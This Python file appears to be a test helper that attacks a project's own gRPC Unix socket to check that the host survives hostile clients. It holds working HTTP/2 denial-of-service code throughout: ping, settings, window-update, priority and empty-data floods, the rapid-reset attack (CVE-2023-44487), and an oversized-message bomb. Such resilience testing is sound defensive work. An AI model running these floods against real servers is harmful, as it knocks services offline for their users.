"""A program that attacks the host's gRPC socket: `hostile_client.py SOCKET HOW TOKEN…`. It prints what came of each.

`dropped` is that the host closed the connection, `status N` a gRPC status, `refused` that the socket let nobody in.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1] / "integration" / "sidecars"))

import h2.exceptions
from session import Connection

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
PATIENCE_S = 4.0
FLOOD_S = 10.0  # it ends as soon as the host drops it


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(stream: int, path: str, token: str) -> bytes:
    """The headers of a call, without compression (RFC 7541, section 6.2.2)."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "host",
        "te": "trailers",
        "content-type": "application/grpc",
        "authorization": f"Bearer {token}",
    }
    block = b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )
    return frame(HEADERS, 4, stream, block)


def resets(token: str, number: int) -> bytes:
    """Calls that are opened and reset at once (CVE-2023-44487)."""
    first = number * 200
    return b"".join(
        request(stream, "/coredeno.CoreService/StoreCount", token)
        + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(first + 1, first + 201, 2)
    )


FLOODS = {
    "ping": lambda _token, _number: frame(PING, 0, 0, b"12345678") * 1000,
    "settings": lambda _token, _number: frame(SETTINGS, 0, 0) * 1000,
    "empty": lambda _token, _number: frame(DATA, 0, 1) * 1000,
    "window": lambda _token, _number: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000,
    "priority": lambda _token, _number: frame(PRIORITY, 0, 1, b"\0\0\0\3\x10") * 1000,
    "reset": resets,
}


def flood(path: str, token: str, how: str) -> str:
    """Send and send; the answers are read and thrown away, so that nothing stops but by the host's will."""
    peer = socket.socket(socket.AF_UNIX)
    peer.connect(path)
    peer.settimeout(PATIENCE_S)
    opening = PREFACE + frame(SETTINGS, 0, 0)
    if token and how != "reset":  # or it would soon be dropped as one that never showed its token
        opening += request(1, "/coredeno.CoreService/FileWrite", token)
    end = time.monotonic() + FLOOD_S
    number = 0
    try:
        peer.sendall(opening)
        while time.monotonic() < end:
            peer.sendall(FLOODS[how](token, number))
            number += 1
            if not take_all(peer):
                return "dropped"
    except (BrokenPipeError, ConnectionResetError):
        return "dropped"
    except TimeoutError:
        return "held"
    return "served"


def take_all(peer: socket.socket) -> bool:
    """Take what has come, and wait for nothing; False if the host has closed."""
    while select.select([peer], [], [], 0)[
        0
    ]:  # `MSG_DONTWAIT` waits all the same on a socket that has a timeout
        if not peer.recv(1 << 20):
            return False
    return True


def bomb(path: str, token: str, size: int) -> str:
    """A message that says it has `size` bytes, with as many as the host takes."""
    with Connection(path, timeout_s=PATIENCE_S) as connection:
        stream = connection.call("FileWrite", token)
        with contextlib.suppress(h2.exceptions.StreamClosedError):  # refused before all was sent
            stream.send_raw(struct.pack(">BI", 0, size) + b"x" * 65536)
        return f"status {stream.status()}"


def knock(path: str, token: str) -> str:
    """One call, as anybody would make it."""
    with Connection(path, timeout_s=PATIENCE_S) as connection:
        stream = connection.call("StoreCount", token or None)
        stream.send(b"", end=True)
        return f"status {stream.status()}"


def main(path: str, token: str, how: str) -> str:
    """Do it."""
    try:
        if how.startswith("as "):
            user = int(how.removeprefix("as "))
            os.setgroups([])
            os.setgid(user)
            os.setuid(user)
        if how == "knock" or how.startswith("as "):
            return knock(path, token)
        if how.startswith("bomb"):
            return bomb(path, token, int(how.partition(" ")[2]))
        return flood(path, token, how)
    except PermissionError:
        return "refused"
    except (ConnectionError, BrokenPipeError):
        return "dropped"


if __name__ == "__main__":
    os.nice(5)
    path, how, *tokens = sys.argv[1:]
    print(*(main(path, each, how) for each in tokens), sep="\n")
